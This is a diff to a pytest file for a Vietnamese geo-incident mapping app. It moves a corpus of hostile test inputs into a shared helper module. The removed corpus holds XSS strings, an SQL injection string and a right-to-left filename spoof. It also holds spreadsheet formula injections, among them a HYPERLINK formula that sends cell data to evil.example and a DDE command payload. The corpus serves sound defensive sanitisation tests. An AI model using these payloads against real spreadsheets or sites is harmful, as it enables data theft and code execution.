@@ -8,7 +8,6 @@ and control characters either dropped (NUL), escaped (JSON) or replaced (XLSX).
 from __future__ import annotations
 
 import csv
-import io
 import json
 import re
 from html.parser import HTMLParser
@@ -18,68 +17,13 @@ import geopandas as gpd
 import openpyxl
 import pandas as pd
 import pytest
+from _hostile import C0, CORPUS, FORMULA_START, TIP_TAGS, csv_bytes, xlsx_bytes
 
 from geo import services
 from geo.errors import LimitExceeded
 from geo.ingest import IngestLimits
 from geo.maps import map_html, ward_map
 from geo.store import open_store
-
-BIG = "<b>" + "B" * 100_000 + "</b>"
-CORPUS: list[str] = [
-    '<script>alert("xss")</script>',
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=console.error('XSS-RAN')>",
-    '"><svg onload=alert(1)>',
-    "' onmouseover='alert(1)",
-    "javascript:alert(1)",
-    '<a href="javascript:alert(1)">bấm vào đây</a>',
-    '=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")',
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1:A9)",
-    "=cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "a\x00b\x01c\x08d\x1be\x7ff",
-    "hóa đơn\u202egpj.exe",
-    "'); DROP TABLE incidents;--",
-    "</script><script>alert(1)</script>",
-    "{{7*7}} ${alert(1)}",
-    "x\u2028y\u2029z",
-    "giá $x^2$ đồng",
-    BIG,
-]
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-C0 = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
-#: Tags a tooltip may hold: the map's own markup, never the corpus's.
-TIP_TAGS = {"b", "br"}
-
-
-def _csv_bytes(values: list[str], prefix: str = "H") -> bytes:
-    buf = io.StringIO()
-    writer = csv.writer(buf)
-    writer.writerow(["ma", "vi_do", "kinh_do", "loai", "ngay", "dia_chi", "ghi_chu"])
-    for i, value in enumerate(values):
-        lat, lon = 21.0300 + (i // 5) * 0.0005, 105.8450 + (i % 5) * 0.0005  # Hoàn Kiếm
-        kind = value if i % 3 == 0 else "lấn chiếm vỉa hè"
-        writer.writerow([f"{prefix}{i}:{value[:30]}", lat, lon, kind, "2025-09-01", value, value])
-    return buf.getvalue().encode("utf-8")
-
-
-def _xlsx_bytes(values: list[str]) -> bytes:
-    """The same corpus as an Excel file: formula cells stay formulas (openpyxl writes "=…"
-    as a formula); characters XML cannot hold are left out of this copy."""
-    wb = openpyxl.Workbook()
-    ws = wb.active
-    ws.append(["ma", "vi_do", "kinh_do", "loai", "ngay", "dia_chi", "ghi_chu"])
-    for i, value in enumerate(values):
-        clean = C0.sub("", value)[:32_000]
-        ws.append([f"X{i}", 21.0330 + i * 0.0005, 105.8520, "biển quảng cáo", "2025-09-02", clean, clean])
-    out = io.BytesIO()
-    wb.save(out)
-    return out.getvalue()
 
 
 @pytest.fixture(scope="module")
@@ -91,8 +35,8 @@ def hostile(tmp_path_factory, wards):
     field = services.add_user(store, boss, "field_team", "field-team-password", ["field"])
     viewer = services.add_user(store, boss, "leader", "leader-password-1", ["viewer"])
     limits = IngestLimits(max_cell_chars=200_000)
-    services.ingest_file(store, field, _csv_bytes(CORPUS), file_name="hostile.csv", wards=wards, limits=limits)
-    services.ingest_file(store, field, _xlsx_bytes(CORPUS), file_name="hostile.xlsx", wards=wards, limits=limits)
+    services.ingest_file(store, field, csv_bytes(CORPUS), file_name="hostile.csv", wards=wards, limits=limits)
+    services.ingest_file(store, field, xlsx_bytes(CORPUS), file_name="hostile.xlsx", wards=wards, limits=limits)
     yield store, viewer, tmp
     store.close()
 
@@ -108,18 +52,18 @@ def test_default_cell_limit_refuses_the_100kb_value_with_a_clear_message(tmp_pat
     store = open_store(f"sqlite:///{tmp_path / 's.sqlite'}")
     boss = services.create_first_admin(store, "boss", "a-long-admin-password")
     with pytest.raises(LimitExceeded) as info:
-        services.ingest_file(store, boss, _csv_bytes(CORPUS), file_name="hostile.csv", wards=wards)
+        services.ingest_file(store, boss, csv_bytes(CORPUS), file_name="hostile.csv", wards=wards)
     message = str(info.value)
     assert "hostile.csv" in message and "dia_chi" in message and "10,000" in message
     assert store.row_counts()["incidents"] == 0
     with pytest.raises(LimitExceeded, match="bytes"):
         services.ingest_file(
-            store, boss, _csv_bytes(CORPUS), file_name="hostile.csv", wards=wards,
+            store, boss, csv_bytes(CORPUS), file_name="hostile.csv", wards=wards,
             limits=IngestLimits(max_bytes=50_000),
         )
     with pytest.raises(LimitExceeded, match="rows"):
         services.ingest_file(
-            store, boss, _csv_bytes(CORPUS[:5]), file_name="few.csv", wards=wards,
+            store, boss, csv_bytes(CORPUS[:5]), file_name="few.csv", wards=wards,
             limits=IngestLimits(max_rows=3),
         )
     store.close()
